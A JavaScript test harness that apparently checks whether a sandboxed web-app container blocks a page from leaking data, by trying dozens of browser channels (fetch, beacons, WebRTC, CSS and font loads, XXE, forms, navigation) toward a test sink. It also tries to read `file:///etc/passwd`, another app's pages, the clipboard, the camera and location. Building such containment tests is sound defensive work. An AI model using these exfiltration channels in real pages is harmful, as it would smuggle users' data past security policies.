// Every way out of a page that its author knows of. A way gets `to(name)`, the address of the sink for it, and may return a
// promise that is kept when the sink has answered.

const put = (markup) => {
  const box = document.createElement("div");
  box.innerHTML = markup;
  document.body.append(box);
  return box;
};
const make = (name, members, where = document.body) => {
  const element = Object.assign(document.createElement(name), members);
  where.append(element);
  return element;
};
const answer = (element, good = "onload", bad = "onerror") => new Promise((resolve, reject) => {
  element[good] = resolve;
  element[bad] = reject;
});
const link = (rel, href, members) => answer(make("link", { rel, href, ...members }, document.head));
const style = (css) => void make("style", { textContent: css }, document.head);
const xml = (text) => new DOMParser().parseFromString(text, "application/xml");

window.ways = {
  // Scripted requests.
  "fetch": (to) => fetch(to("fetch")),
  "fetch-no-cors": (to) => fetch(to("fetch-no-cors"), { mode: "no-cors" }),
  "fetch-post": (to) => fetch(to("fetch-post"), { method: "POST", mode: "no-cors", body: "secret" }),
  "fetch-keepalive": (to) => fetch(to("fetch-keepalive"), { keepalive: true, mode: "no-cors" }),
  "xhr": (to) => {
    const request = new XMLHttpRequest();
    const answered = answer(request);
    request.open("GET", to("xhr"));
    request.send();
    return answered;
  },
  "xhr-sync": (to) => {
    const request = new XMLHttpRequest();
    request.open("GET", to("xhr-sync"), false);
    request.send();
  },
  "beacon": (to) => { if (!navigator.sendBeacon(to("beacon"), "secret")) throw new Error("refused"); return new Promise(() => {}); },
  "events": (to) => answer(new EventSource(to("events")), "onopen"),
  "socket": (to) => answer(new WebSocket(to("socket").replace("http:", "ws:")), "onopen"),
  "socket-tls": (to) => answer(new WebSocket(to("socket-tls").replace("http:", "wss:")), "onopen"),
  "transport": (to) => new WebTransport(to("transport").replace("http:", "https:")).ready,
  "rtc": async (to) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: to("rtc").replace("http://", "stun:").replace(/\/.*/, "") }] });
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
    return new Promise(() => {});
  },
  "rtc-turn": async (to) => {
    const urls = ["", "?transport=tcp"].map((rest) => to("rtc-turn").replace("http://", "turn:").replace(/\/.*/, rest));
    const peer = new RTCPeerConnection({ iceServers: [{ urls, username: "secret", credential: "secret" }], iceTransportPolicy: "relay" });
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
    return new Promise(() => {});
  },

  // Pictures and media.
  "img": (to) => answer(make("img", { src: to("img") })),
  "img-new": (to) => { const picture = new Image(); const answered = answer(picture); picture.src = to("img-new"); return answered; },
  "img-srcset": (to) => answer(make("img", { srcset: `${to("img-srcset")} 1x` })),
  "picture": (to) => answer(put(`<picture><source srcset="${to("picture")}"><img></picture>`).querySelector("img")),
  "input-image": (to) => answer(make("input", { type: "image", src: to("input-image") })),
  "body-background": (to) => void document.body.setAttribute("background", to("body-background")),
  "svg-image": (to) => void put(`<svg><image href="${to("svg-image")}" width="9" height="9"/></svg>`),
  "svg-use": (to) => void put(`<svg><use href="${to("svg-use")}#x"/></svg>`),
  "svg-filter": (to) => void put(`<svg><filter id="f"><feImage href="${to("svg-filter")}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`),
  "video": (to) => answer(make("video", { src: to("video"), preload: "auto" }), "onloadeddata"),
  "video-poster": (to) => void make("video", { poster: to("video-poster") }),
  "audio": (to) => answer(make("audio", { src: to("audio"), preload: "auto" }), "onloadeddata"),
  "track": (to) => {
    const video = put(`<video src="data:video/mp4;base64,"><track default kind="captions" src="${to("track")}"></video>`);
    video.querySelector("track").track.mode = "showing";
    return answer(video.querySelector("track"));
  },
  "media-session": (to) => void (navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: to("media-session") }] })),

  // Styles and fonts.
  "css-background": (to) => { style(`#css-background { background: url(${to("css-background")}) }`); make("div", { id: "css-background", textContent: "." }); },
  "css-content": (to) => style(`h1::after { content: url(${to("css-content")}) }`),
  "css-import": (to) => style(`@import "${to("css-import")}";`),
  "css-font": (to) => { style(`@font-face { font-family: leak; src: url(${to("css-font")}) } #css-font { font-family: leak }`); make("p", { id: "css-font", textContent: "x" }); },
  "css-cursor": (to) => style(`body { cursor: url(${to("css-cursor")}), auto }`),
  "css-list": (to) => { style(`#css-list { list-style-image: url(${to("css-list")}) }`); put("<ul id='css-list'><li>x</li></ul>"); },
  "css-mask": (to) => { style(`#css-mask { -webkit-mask-image: url(${to("css-mask")}) }`); make("div", { id: "css-mask", textContent: "." }); },
  "font-face": (to) => new FontFace("leak2", `url(${to("font-face")})`).load(),

  // Scripts and workers.
  "script": (to) => answer(make("script", { src: to("script") })),
  "script-module": (to) => answer(make("script", { type: "module", src: to("script-module") })),
  "import": (to) => import(to("import")),
  "import-map": (to) => void make("script", { type: "importmap", textContent: JSON.stringify({ imports: { leak: to("import-map") } }) }),
  "worker": (to) => answer(new Worker(to("worker")), "onmessage"),
  "worker-blob": (to) => answer(new Worker(URL.createObjectURL(new Blob([`importScripts("${to("worker-blob")}"); postMessage(1)`]))), "onmessage"),
  "worker-shared": (to) => answer(new SharedWorker(to("worker-shared")).port, "onmessage"),
  "worker-service": (to) => navigator.serviceWorker.register(to("worker-service")),
  "worklet-audio": (to) => new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(to("worklet-audio")),
  "eval": (to) => new Function(`return fetch("${to("eval")}")`)(),

  // Frames and plug-ins.
  "iframe": (to) => void make("iframe", { src: to("iframe") }),
  "iframe-srcdoc": (to) => void make("iframe", { srcdoc: `<img src="${to("iframe-srcdoc")}">` }),
  "iframe-data": (to) => void make("iframe", { src: `data:text/html,<img src="${to("iframe-data")}">` }),
  "iframe-blob": (to) => void make("iframe", { src: URL.createObjectURL(new Blob([`<img src="${to("iframe-blob")}">`], { type: "text/html" })) }),
  "iframe-script": (to) => void make("iframe", { src: `javascript:location='${to("iframe-script")}'` }),
  "iframe-blank": (to) => { const frame = make("iframe", {}); frame.contentWindow.location = to("iframe-blank"); },
  "object": (to) => void make("object", { data: to("object"), type: "image/png" }),
  "embed": (to) => void make("embed", { src: to("embed"), type: "image/png" }),

  // Hints, links, reports.
  "link-style": (to) => link("stylesheet", to("link-style")),
  "link-icon": (to) => link("icon", to("link-icon")),
  "link-manifest": (to) => link("manifest", to("link-manifest")),
  "link-prefetch": (to) => link("prefetch", to("link-prefetch")),
  "link-preload": (to) => link("preload", to("link-preload"), { as: "image" }),
  "link-modulepreload": (to) => link("modulepreload", to("link-modulepreload")),
  "link-preconnect": (to) => link("preconnect", to("link-preconnect")),
  "link-dns-prefetch": (to) => link("dns-prefetch", to("link-dns-prefetch")),
  // The engine holds the first back until it knows that there is no proxy in the system's settings.
  "link-dns-prefetch-later": async (to) => {
    await new Promise((resolve) => setTimeout(resolve, 1000));
    return link("dns-prefetch", to("link-dns-prefetch-later"));
  },
  "link-prerender": (to) => link("prerender", to("link-prerender")),
  "policy-report": (to) => {
    make("meta", { httpEquiv: "Content-Security-Policy", content: `img-src 'none'; report-uri ${to("policy-report")}` }, document.head);
    make("img", { src: "data:image/gif;base64,R0lGODlhAQABAAAAACw=" });
  },
  "notification": (to) => void new Notification("x", { icon: to("notification") }),
  "payment": (to) => new PaymentRequest([{ supportedMethods: to("payment") }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment(),
  "share": (to) => navigator.share({ url: to("share") }),
  "protocol": (to) => navigator.registerProtocolHandler("web+leak", `${to("protocol")}?%s`),
  "xslt": (to) => {
    const processor = new XSLTProcessor();
    processor.importStylesheet(xml(`<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:import href="${to("xslt")}"/><x:template match="/"><x:value-of select="document('${to("xslt-document")}')"/></x:template></x:stylesheet>`));
    processor.transformToDocument(xml("<a/>"));
    return new Promise(() => {});
  },
  "xml-entity": (to) => { if (!xml(`<!DOCTYPE a [<!ENTITY e SYSTEM "${to("xml-entity")}">]><a>&e;</a>`).documentElement.textContent) throw new Error("empty"); },

  // What belongs to others on this device.
  "other-app": () => fetch("guichet-app://gov.example.residence.permit/pages/home.html"),
  "other-app-img": () => answer(make("img", { src: "guichet-app://gov.example.residence.permit/common/icon.svg" })),
  "host-page": () => fetch("guichet-home://home/index.html"),
  "file": () => fetch("file:///etc/passwd"),
  "file-img": () => answer(make("img", { src: "file:///usr/share/pixmaps/debian-logo.png" })),
  "clipboard": () => navigator.clipboard.readText(),
  "camera": () => navigator.mediaDevices.getUserMedia({ video: true }),
  "place": () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
};

// Ways that leave the page where nothing stops them; tried last.
window.departures = {
  "form": (to) => { const form = put(`<form action="${to("form")}" method="post"><input name="s" value="secret"></form>`).firstChild; form.submit(); },
  "form-blank": (to) => { const form = put(`<form action="${to("form-blank")}" target="_blank"></form>`).firstChild; form.submit(); },
  "ping": (to) => make("a", { href: "#", ping: to("ping"), textContent: "ping" }).click(),
  "download": (to) => make("a", { href: to("download"), download: "x", textContent: "download" }).click(),
  "download-data": () => make("a", { href: "data:text/plain,secret", download: "secret", textContent: "download" }).click(),
  "window": (to) => { if (window.open(to("window"))) return; throw new Error("refused"); },
  "window-noopener": (to) => void window.open(to("window-noopener"), "_blank", "noopener"),
  "anchor-blank": (to) => make("a", { href: to("anchor-blank"), target: "_blank", textContent: "blank" }).click(),
  "mail": () => make("a", { href: "mailto:a@sink.test", textContent: "mail" }).click(),
  "schemes": () => {
    for (const url of ["tel:secret", "sms:secret", "ftp://sink.test/secret", "intent://sink.test/#Intent;end", "ms-settings:", "web+leak:secret", "vscode://secret", "magnet:?secret"]) {
      make("a", { href: url, textContent: url }).click();
      make("iframe", { src: url });
    }
  },
  "close": () => window.close(),
  "print": () => window.print(),
  "fullscreen": () => document.documentElement.requestFullscreen(),
  "refresh": (to) => void make("meta", { httpEquiv: "refresh", content: `0;url=${to("refresh")}` }, document.head),
  "anchor": (to) => make("a", { href: to("anchor"), textContent: "anchor" }).click(),
  "location": (to) => void (window.location = to("location")),
  "replace": (to) => location.replace(to("replace")),
  "top": (to) => void (window.top.location = to("top")),
  "data-page": (to) => void (location.href = `data:text/html,<img src="${to("data-page")}">`),
  "script-page": (to) => void (location.href = `javascript:fetch("${to("script-page")}")`),
};
